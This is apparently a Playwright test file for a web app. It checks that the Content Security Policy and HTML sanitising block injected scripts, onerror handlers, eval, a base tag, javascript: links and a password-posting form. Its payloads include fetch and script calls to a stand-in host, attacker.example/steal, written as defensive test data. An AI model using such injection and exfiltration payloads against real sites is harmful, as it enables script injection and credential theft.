import { hostileArticle } from '../../mocks/scenarios/hostile-html.ts';
import { expect, test } from './fixtures.ts';
import { violationsOf } from './violations.ts';

// The web server's policy blocks injected content that has passed every other defence.

test('R01 Injected content neither runs nor sends requests @in-english', async ({ page, allowComplaint }) => {
  allowComplaint(/Content Security Policy|TrustedHTML|TrustedScript|Refused to/);
  const violations = await violationsOf(page);
  await page.goto('/about');
  const outcome = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      script: () => {
        const script = document.createElement('script');
        script.textContent = 'window.slippedIn = true';
        document.head.append(script);
      },
      markup: () => {
        document.body.innerHTML = '<img src=x onerror="window.slippedIn = true">';
      },
      // Called by a timer: the debugger's own calls may be allowed to evaluate.
      evaluation: async () =>
        new Promise((resolve, reject) => {
          setTimeout(() => {
            try {
              // oxlint-disable-next-line eslint/no-eval -- the point of the test is that it does not run
              resolve(window.eval('window.slippedIn = true'));
            } catch (error) {
              reject(error);
            }
          });
        }),
      call: async () => fetch('https://attacker.example/steal'),
    };
    const refused: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
      } catch {
        refused.push(name);
      }
    }
    return { refused, slippedIn: 'slippedIn' in window };
  });
  expect(outcome).toEqual({ refused: ['script', 'markup', 'evaluation', 'call'], slippedIn: false });
  const rules = () => [...new Set(violations.map((each) => each.replace(/ .*$/, '')))].toSorted();
  await expect.poll(rules).toEqual(['connect-src', 'require-trusted-types-for']);
});

test('R08 C09 An article full of attacks is drawn as the harmless text it holds, under the policy, and nothing of it runs @in-arabic', async ({
  page,
  origins,
  allowComplaint,
}) => {
  // DOMPurify reads an article in a separate document without scripts; what it removes is reported there as blocked.
  allowComplaint(/Content Security Policy/);
  // A missing picture of this site is not an attack.
  allowComplaint(/Failed to load resource: the server responded with a status of 404 .*\/x\)$/);
  const violations = await violationsOf(page);
  await page.addInitScript(() => {
    Object.assign(window, { hacked: () => Object.assign(window, { wasHacked: true }) });
  });
  const hostile = hostileArticle(new Date());
  let html = '<h2>Lunch</h2><p>One <strong>slow</strong> carb.</p>';
  await page.route(`${origins.api}/api/v1/healths/1`, async (route) => {
    if (route.request().method() !== 'GET') return route.continue();
    const response = await route.fetch();
    const article = { ...hostile, description: html, arabic_description: html };
    return route.fulfill({ response, json: { custom_status: 200, data: { health_blog: article } } });
  });
  const article = page.locator('main article').first();
  await page.goto('/blog/1');
  await expect(article.getByText('One slow carb.')).toBeVisible();
  expect(violations, 'of an honest article').toEqual([]);
  html = hostile.description;
  await page.reload();
  await expect(article.getByRole('heading', { name: 'Lunch', exact: true })).toBeVisible();
  await expect(article.getByText('One slow carb, see our packages & more.')).toBeVisible();
  await expect(article.getByText('Not run: <img src=x onerror=hacked()>', { exact: true })).toBeVisible();
  await expect(article.getByRole('link', { name: 'our packages' })).toHaveAttribute('href', '/packages');
  const drawn = await article.evaluate((element) => ({
    isTyped: 'trustedTypes' in window,
    handlers: [...element.querySelectorAll('*')].flatMap((each) =>
      each.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style'),
    ),
    tools: element.querySelectorAll('script, style, iframe, object, embed, form, input, base, meta, link, svg, math')
      .length,
  }));
  expect(drawn).toEqual({ isTyped: true, handlers: [], tools: 0 });
  // Presses and hovers every element that could react: nothing happens.
  await article.evaluate((element) => {
    for (const each of element.querySelectorAll<HTMLElement>('*')) {
      each.dispatchEvent(new PointerEvent('pointerenter'));
      if (!(each instanceof HTMLAnchorElement)) each.click();
    }
  });
  await page.getByRole('contentinfo').scrollIntoViewIfNeeded();
  expect(await page.evaluate(() => 'wasHacked' in window)).toBe(false);
  await expect(page).toHaveURL(/\/blog\/1$/);
  const rules = new Set(violations.map((each) => each.replace(/ .*$/, '')));
  expect([...rules].toSorted()).toEqual(['base-uri', 'script-src-attr', 'style-src-elem']);
});

test('R04 Scripts, handlers, forms and a base that were written into index.html itself are refused by name @in-english', async ({
  page,
  origins,
  allowComplaint,
}) => {
  allowComplaint(/Content Security Policy|Refused to/);
  // A page answered by the test counts as one from the internet, which may not call the API on this machine.
  allowComplaint(/`loopback` address space|ERR_FAILED .*\/api\/v1\//);
  // The request fails, as the end of the test expects.
  allowComplaint(/^foreign request: https:\/\/attacker\.example\/steal\.js$/);
  const violations = await violationsOf(page);
  const attacker = 'https://attacker.example';
  const stolen = page.waitForEvent('requestfailed', (request) => request.url() === `${attacker}/steal.js`);
  await page.route(`${origins.app}/about`, async (route) => {
    const response = await route.fetch();
    const { 'content-encoding': _packed, 'content-length': _length, ...headers } = response.headers();
    expect(headers['content-security-policy']).toContain('script-src ');
    const html = (await response.text())
      .replace('<head>', `<head><base href="${attacker}/">`)
      .replace(
        '<body>',
        `<body><script>window.slippedIn = 'script'</script><script src="${attacker}/steal.js"></script>` +
          `<button id="bait" type="button" onclick="window.slippedIn = 'handler'">x</button>` +
          `<form id="form" method="post" action="${attacker}/steal"><input name="password" value="x"></form>` +
          `<a id="link" href="javascript:window.slippedIn = 'link'">x</a>`,
      );
    await route.fulfill({ response, headers, body: html });
  });
  await page.goto('/about');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate(() => {
    document.querySelector<HTMLElement>('#bait')?.click();
    document.querySelector<HTMLElement>('#link')?.click();
    document.querySelector<HTMLFormElement>('#form')?.requestSubmit();
  });
  const refused = () => violations.map((each) => each.replace(/ \(.*$/, '')).toSorted();
  await expect
    .poll(refused)
    .toEqual([
      `base-uri ${attacker}/`,
      `form-action ${attacker}/steal`,
      'script-src-attr inline',
      `script-src-elem ${attacker}/steal.js`,
      'script-src-elem inline',
      'script-src-elem inline',
    ]);
  expect((await stolen).failure()?.errorText).toMatch(/csp/i);
  const { href, ...left } = await page.evaluate(() => ({
    href: location.href,
    base: document.baseURI,
    slippedIn: 'slippedIn' in window,
  }));
  expect(href).toBe(`${origins.app}/about`);
  expect(left).toEqual({ base: href, slippedIn: false });
});
